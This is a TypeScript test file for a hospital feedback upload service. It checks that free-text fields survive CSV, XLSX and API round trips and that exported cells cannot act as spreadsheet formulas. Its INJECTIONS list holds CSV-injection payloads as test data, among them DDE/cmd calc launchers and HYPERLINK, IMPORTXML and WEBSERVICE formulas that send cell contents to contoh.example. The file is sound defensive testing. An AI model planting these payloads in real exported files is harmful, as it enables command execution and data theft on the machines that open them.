import assert from 'node:assert/strict'
import { mkdtempSync } from 'node:fs'
import { createRequire } from 'node:module'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import { readXlsx, writeXlsxStream } from 'hucre/xlsx'
import { createTestDatabase, type TestDatabase } from '../../../test/support/database.ts'
import { hospitalOwingFeedback, inventedNik, lookUpAll } from '../../../test/support/feedback.ts'
import { lookAtFile, receiveFile } from '../../../test/support/feedback-file.ts'
import { inTx } from '../../kernel/database.ts'
import { openLog } from '../../kernel/log.ts'
import { openNikHasher } from '../../kernel/secrets.ts'
import { insertDefinition } from '../definition.store.ts'
import { followAccesses } from '../looked-up.store.ts'
import { openFeedbackDesk } from '../post-feedback.ts'
import { hashToken } from '../token.ts'
import { loadUpload } from './load-upload.ts'
import { moveUpload } from './upload.store.ts'
import { writeTable } from './write-table.ts'

// The Big List of Naughty Strings (Max Woolf and contributors, MIT), whole.
const NAUGHTY: string[] = createRequire(import.meta.url)('big-list-of-naughty-strings/blns.json')

/** Every form of the published collections of CSV injections: each beginning, DDE, links, quotes that break out. */
const INJECTIONS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|'/C calc'!A0",
  "=cmd|'/C calc'!'A1'",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+9)*cmd|'/C calc'!A0",
  "=10+20+cmd|'/C calc'!A0",
  'DDE("cmd";"/C calc";"!A0")A0',
  '=DDE("cmd";"/C calc";"!A0")',
  "=rundll32|'URL.dll,OpenURL calc'!A",
  '=HYPERLINK("http://contoh.example/?x="&A1,"klik")',
  '=IMPORTXML(CONCAT("http://contoh.example/",A1),"//a")',
  '=WEBSERVICE("http://contoh.example/")',
  '=EXEC("calc")',
  '"=cmd|\'/C calc\'!A1"',
  "\";=cmd|'/C calc'!A1",
  "\",=cmd|'/C calc'!A1",
  "'=1+1",
  "''=1+1",
  '\uff1d1+1',
  '\uff0b1',
  '\uff20SUM(1)',
  '=1+1\r\n=2+2',
  'a\t=1+1',
  '--1',
]

const FIELD = 'CATATAN'
const TODAY = '2026-11-21'
/** What can be kept: what a spreadsheet or a program has around it goes, what nobody can store is refused (FB-11, FB-18). */
const TEXTS = [...NAUGHTY, ...INJECTIONS].filter((text) => text.isWellFormed() && !text.includes('\0'))
const EXPECTED = TEXTS.map((text) => (text.trim() === '' ? null : text.trim()))

const nikHasher = openNikHasher(join(mkdtempSync(join(tmpdir(), 'gapura-test-')), 'nik.key'))
let database: TestDatabase

before(async () => {
  database = await createTestDatabase()
})
after(() => database.drop())

/** A hospital with one free text field, that has looked everybody up. */
async function hospital(code: string) {
  const { pool } = database
  const one = await hospitalOwingFeedback(pool, code)
  const field = {
    key: FIELD,
    label: 'Catatan',
    type: 'text',
    maxLength: 4000,
    required: false,
    unique: false,
  } as const
  await inTx(pool, (tx) =>
    insertDefinition(tx, {
      agreementId: one.agreementId,
      fields: [field],
      strangerPolicy: 'refuse',
      retentionMonths: null,
      basis: 'uji',
      by: 'uji',
      reason: 'uji',
    }),
  )
  await lookUpAll(
    pool,
    nikHasher,
    one,
    TEXTS.map((_, place) => inventedNik(place)),
  )
  await followAccesses(pool)
  return one
}

const rows = () => TEXTS.map((text, place) => [inventedNik(place), text])

async function load(from: { officeId: number; agreementId: number }, bytes: Buffer, name: string) {
  const { pool } = database
  const id = await receiveFile(pool, from, bytes, name)
  await lookAtFile(pool, id, TODAY)
  await moveUpload(pool, id, ['received'], 'loading')
  assert.equal(await loadUpload(pool, nikHasher, { id, today: TODAY }), 'finished')
}

async function storedOf(agreementId: number): Promise<(string | null)[]> {
  const { rows: found } = await database.pool.query<{ nik: string; cell: string | null }>(
    'select nik::text as nik, cells[1] as cell from feedback_row where agreement_id = $1',
    [agreementId],
  )
  const byNik = new Map(found.map(({ nik, cell }) => [nik, cell]))
  return TEXTS.map((_, place) => byNik.get(inventedNik(place)) ?? null)
}

async function written(format: 'csv' | 'xlsx', cells: readonly (string | null)[]): Promise<Buffer> {
  async function* out() {
    for (const [place, cell] of cells.entries()) yield [inventedNik(place), cell ?? '']
  }
  const pieces: Buffer[] = []
  for await (const piece of writeTable(format, ['NIK', FIELD], out())) pieces.push(Buffer.from(piece))
  return Buffer.concat(pieces)
}

test('FB-65 text of every kind goes in and comes out unharmed as CSV', async () => {
  const one = await hospital('uji-csv')
  await load(one, Buffer.from(stringify([['NIK', FIELD], ...rows()], { delimiter: ';' })), 'a.csv')
  // What looks shielded is taken for shielded in a file that somebody else wrote.
  const expected = EXPECTED.map(
    (text) => text?.replace(/^'('*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20])/, '$1') ?? null,
  )
  assert.deepEqual(await storedOf(one.agreementId), expected)

  const bytes = await written('csv', expected)
  const left: string[][] = parse(bytes, { bom: true, delimiter: ';', relax_column_count: true })
  for (const cells of left)
    for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/)
  const again = await hospital('uji-csv-lagi')
  await load(again, bytes, 'b.csv')
  assert.deepEqual(await storedOf(again.agreementId), expected)
})

test('FB-65 the same as a workbook, in which nothing is a formula', async () => {
  const one = await hospital('uji-xlsx')
  const source = (async function* () {
    for (const row of rows()) yield row
  })()
  const columns = ['NIK', FIELD].map((header) => ({ header }))
  const bytes = Buffer.from(
    await new Response(writeXlsxStream(source, { name: 'Data', columns }) as ReadableStream).arrayBuffer(),
  )
  await load(one, bytes, 'a.xlsx')
  const stored = await storedOf(one.agreementId)
  assert.deepEqual(stored, EXPECTED)

  const out = await written('xlsx', stored)
  const workbook = await readXlsx(out)
  const cells = workbook.sheets[0]?.rows.slice(1).map((row) => row[1]) ?? []
  assert.deepEqual(
    cells.map((cell) => (cell === '' || cell === undefined ? null : cell)),
    EXPECTED,
  )
})

test('FB-52 the same in posts of programs', async () => {
  const one = await hospital('uji-post')
  const { pool } = database
  const desk = openFeedbackDesk({ pool, nikHasher, log: openLog('silent') })
  const answer = await desk.ask({
    tokenHash: hashToken(one.token),
    address: '127.0.0.1',
    items: TEXTS.map((text, place) => ({ nik: inventedNik(place), values: new Map([[FIELD, text]]) })),
    isWhole: false,
  })
  await desk.stop()
  assert.ok(answer.kind === 'taken' && answer.fates.every(({ kind }) => kind === 'stored'))
  assert.deepEqual(await storedOf(one.agreementId), EXPECTED)
})
